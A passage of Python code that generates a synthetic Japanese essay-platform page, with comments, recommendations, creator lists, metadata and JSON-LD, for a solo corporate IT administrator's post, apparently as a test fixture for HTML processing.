        N('comments'), ''.join('<div class="%s"><p class="%s">%s</p><p>%s</p></div>' % (N('comments', 'item'), N('comments', 'user'), esc(u), esc(comment_text(rng, 'ja', 2))) for u in ['春野あかり', 'まるこ', 'yoshi', '地方公務員', 'てつお@中小企業診断士']),
        N('recommend'), related_list(rng, N, 'ja', heads[:10], 'おすすめ記事', teasers=True),
        N('creators'), ''.join('<li><a href="#"><span>%s</span><span>%s</span></a><button>フォロー</button></li>' % (esc(c), esc(d)) for c, d in creators),
        site_footer(rng, N, 'ja', 'essay note inc.', cols=2),
        js({'layout': 'default', 'data': [{'note': {'key': 'n3f8a1c7e2b90', 'name': title, 'likeCount': 1204, 'hashtags': ['情シス', 'ひとり情シス', '中小企業'], 'user': {'nickname': 'ひとり情シスのメモ', 'urlname': 'hitori_joshis'}},
                                           'recommends': [{'name': t, 'description': z} for t, z, _ in heads]}], 'state': {'auth': {'loggedIn': False}}, 'serverRendered': True}))
    head = '\n'.join([
        '<meta charset="utf-8">', '<title>%s｜ひとり情シスのメモ</title>' % esc(title), common_head_links(rng, host, 8),
        og_meta(title, blocks[0][1], url, 'https://assets.%s/og/n3f8a1c7e2b90.png' % host, 'essay note', pub=pub),
        '<style>%s</style>' % page_css(rng, N, 900, ['o-noteContentText']), gtm_snippet('GTM-ESNT08'),
        jsonld({'@context': 'https://schema.org', '@type': 'Article', 'headline': title, 'datePublished': iso(pub), 'author': {'@type': 'Person', 'name': 'ひとり情シスのメモ', 'url': 'https://%s/hitori_joshis' % host}, 'image': 'https://assets.%s/og/n3f8a1c7e2b90.png' % host}),
    ])
    return dict(name=name, url=url, content_type=None, encoding='UTF-8', title=title, published=pub,
                author='ひとり情シスのメモ', language='ja', canonical_url=None, blocks=blocks, html=doc('ja', head, page, html_attrs=' data-n-head-ssr'),
                layout='Essay/creator platform (Nuxt, hashed classes): paragraphs carrying name/id attributes, one-line pull quote, hashtags, like button, tip/support box, creator profile, comments, recommended notes and creators.')
